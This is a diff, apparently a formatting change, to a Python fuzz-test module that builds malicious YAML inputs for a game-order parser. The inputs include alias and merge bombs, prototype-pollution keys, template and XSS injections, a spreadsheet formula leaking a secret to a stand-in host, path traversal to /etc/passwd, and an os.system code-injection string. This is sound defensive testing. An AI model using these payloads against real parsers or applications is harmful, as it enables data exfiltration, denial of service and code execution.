@@ -36,10 +36,12 @@ TEXTS: dict[str, Callable[[], str]] = {
     "scalar": lambda: "{secret}\n",
     "list": lambda: "- {secret}\n- 1\n",
     "alias bomb": lambda: (
-        'a: &a ["{secret}"]\n' + "".join(f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
+        'a: &a ["{secret}"]\n'
+        + "".join(f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
     ),
     "merge bomb": lambda: (
-        "a0: &a0 {k: '{secret}'}\n" + "".join(f"a{i}: &a{i} {{<<: [*a{i - 1}, *a{i - 1}], k{i}: 1}}\n" for i in range(1, 28))
+        "a0: &a0 {k: '{secret}'}\n"
+        + "".join(f"a{i}: &a{i} {{<<: [*a{i - 1}, *a{i - 1}], k{i}: 1}}\n" for i in range(1, 28))
     ),
     "merge": lambda: "<<: {team: red}\nturn: 1\n",
     "self alias": lambda: "turn: &x [*x]\n",
@@ -85,21 +87,35 @@ TEXTS: dict[str, Callable[[], str]] = {
     "far over": lambda: _to(3 * 2**20),
     "prototype": lambda: "turn: 1\n__proto__: {admin: true}\n__class__: {secret}\nconstructor: x\n",
     "parameters": lambda: "turn: 1\norders: [{option: work, size: 1, __class__: '{secret}', __init__: 2}]\n",
-    "template": lambda: "turn: 1\norders: [{action: '{{ 7*7 }} {% for i in range(10) %}x{% endfor %} ${7*7} #{7*7} {secret}'}]\n",
-    "formula": lambda: "turn: 1\norders: [{action: '=HYPERLINK(\"http://x/{secret}\")'}]\nanswers: {notice: '@SUM(1) +1 -1 =cmd|calc'}\n",
+    "template": lambda: (
+        "turn: 1\norders: [{action: '{{ 7*7 }} {% for i in range(10) %}x{% endfor %} ${7*7} #{7*7} {secret}'}]\n"
+    ),
+    "formula": lambda: (
+        "turn: 1\norders: [{action: '=HYPERLINK(\"http://x/{secret}\")'}]\nanswers: {notice: '@SUM(1) +1 -1 =cmd|calc'}\n"
+    ),
     "script": lambda: "turn: 1\norders: [{action: '<script>alert(1)</script><img src=x onerror=alert(2)> {secret}'}]\n",
-    "markdown": lambda: "turn: 1\norders: [{action: '[a](javascript:alert(1)) ![b](file:///etc/passwd) `{secret}` |'}]\n",
+    "markdown": lambda: (
+        "turn: 1\norders: [{action: '[a](javascript:alert(1)) ![b](file:///etc/passwd) `{secret}` |'}]\n"
+    ),
     "attachments": lambda: (
         "turn: 1\nmessages: [{to: [blue], subject: s, attachments: [../../../outside.txt, /etc/passwd, 'files/../../../outside.txt', "
         "files/link, '..\\outside.txt', 'C:\\outside.txt', '\\\\host\\outside.txt', files/, files, '', ., .., 'files/a\\u0000b', 'file:///etc/passwd', ~/outside.txt]}]\n"
     ),
     "many attachments": lambda: "turn: 1\nmessages: [{to: [blue], attachments: [" + "files/a, " * 1900 + "]}]\n",
-    "withdraw": lambda: "turn: 1\nwithdraw: ['{secret}', ../../x, blue/1/1, '{secret}\\n# Receipt', '/etc/passwd', 'red/@{secret}/1']\nreplaces: ['{secret}']\n",
-    "withdraw instants": lambda: "turn: 1\nwithdraw: ['red/@" + "9" * 5000 + "/1', 'red/@-1/1', 'red/@1e999/1', 'red/@\u0661/1', 'red/\u00b2/1']\n",
+    "withdraw": lambda: (
+        "turn: 1\nwithdraw: ['{secret}', ../../x, blue/1/1, '{secret}\\n# Receipt', '/etc/passwd', 'red/@{secret}/1']\nreplaces: ['{secret}']\n"
+    ),
+    "withdraw instants": lambda: (
+        "turn: 1\nwithdraw: ['red/@"
+        + "9" * 5000
+        + "/1', 'red/@-1/1', 'red/@1e999/1', 'red/@\u0661/1', 'red/\u00b2/1']\n"
+    ),
     "replaces": lambda: "turn: 1\norders: [{option: work, size: 1, replaces: '{secret} ../../x'}]\n",
-    "counters": lambda: "turn: 1\ncounters: [{order: '{secret}', against: ['{secret}']}, {order: red/1/1, against: [x]}]\n",
+    "counters": lambda: (
+        "turn: 1\ncounters: [{order: '{secret}', against: ['{secret}']}, {order: red/1/1, against: [x]}]\n"
+    ),
     "when": lambda: "turn: 1\norders: [{option: work, size: 1, when: '{secret}'}]\n",
-    "when code": lambda: "turn: 1\norders: [{option: work, size: 1, when: '__import__(\"os\").system(\"x\")'}]\n",
+    "when code": lambda: 'turn: 1\norders: [{option: work, size: 1, when: \'__import__("os").system("x")\'}]\n',
     "when deep": lambda: "turn: 1\norders: [{option: work, size: 1, when: '" + "(" * 400 + "1" + ")" * 400 + "'}]\n",
     "when power": lambda: "turn: 1\norders: [{option: work, size: 1, when: '9**9**9**9**9 > 1'}]\n",
     "when not": lambda: "turn: 1\norders: [{option: work, size: 1, when: '" + "not " * 120 + "true'}]\n",
@@ -121,8 +137,15 @@ for _number in (
     "1:30:00", "١٢", "²", "+1", "1.", ".5", "1e-999", "0", "-0", "-1", "9" * 5000, "1e308", "true", "~", "yes",
     "1 kg", "1 %", "4 Mt/yr", "1e5000 d", "9" * 300 + "d", "{secret}",
 ):  # fmt: skip
-    for _key in ("turn: {n}\n", "turn: 1\norders: [{option: work, size: {n}}]\n", "at: {n}\n", "turn: 1\norders: [{option: work, size: 1, until: {n}}]\n"):
-        TEXTS[f"{_key.split(':')[0]} {len(_key)} {_number[:8]} {len(_number)}"] = lambda k=_key, n=_number: k.replace("{n}", n)  # type: ignore[misc]
+    for _key in (
+        "turn: {n}\n",
+        "turn: 1\norders: [{option: work, size: {n}}]\n",
+        "at: {n}\n",
+        "turn: 1\norders: [{option: work, size: 1, until: {n}}]\n",
+    ):
+        TEXTS[f"{_key.split(':')[0]} {len(_key)} {_number[:8]} {len(_number)}"] = lambda k=_key, n=_number: k.replace(
+            "{n}", n
+        )  # type: ignore[misc]
 
 
 def _to(size: int) -> str:
@@ -148,7 +171,9 @@ def handmade(team: str, other: str, secret: str) -> Iterator[Strange]:
         yield Strange(f"made {i:03d}.{ending}", data)
     valid = VALID.format(team=team, other=other, secret=secret)
     for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1251"):
-        yield Strange(f"in {encoding}.yaml", (valid + "# \u00e9\n").replace("\u00e9", "\u00a7").encode(encoding, "replace"))
+        yield Strange(
+            f"in {encoding}.yaml", (valid + "# \u00e9\n").replace("\u00e9", "\u00a7").encode(encoding, "replace")
+        )
     yield Strange("overlong.yaml", b"turn: 1\n# \xc0\xaf\xe0\x80\xaf\xed\xa0\x80\xf4\x90\x80\x80\n")
     yield Strange("cut.yaml", valid.encode() + b"# \xe2\x82")
 
@@ -157,7 +182,33 @@ def mutated(team: str, other: str, secret: str, count: int, chance: random.Rando
     """Valid files with bytes flipped, pieces cut, doubled, moved, lines lost, and signs of YAML put in."""
     base = CONTROL if team == "control" else VALID
     valid = base.format(team=team, other=other, secret=secret).encode()
-    signs = [b"{", b"}", b"[", b"]", b": ", b"- ", b"&a ", b"*a ", b"!!", b"|", b">", b"'", b'"', b"\n", b"\t", b"\0", b"\xff", b"#", b"---\n", b"%", b"\\", b"\xe2\x80\xa8", b"9" * 40, b"null", b"~"]
+    signs = [
+        b"{",
+        b"}",
+        b"[",
+        b"]",
+        b": ",
+        b"- ",
+        b"&a ",
+        b"*a ",
+        b"!!",
+        b"|",
+        b">",
+        b"'",
+        b'"',
+        b"\n",
+        b"\t",
+        b"\0",
+        b"\xff",
+        b"#",
+        b"---\n",
+        b"%",
+        b"\\",
+        b"\xe2\x80\xa8",
+        b"9" * 40,
+        b"null",
+        b"~",
+    ]
     for i in range(count):
         data = bytearray(valid)
         for _ in range(chance.randint(1, 6)):
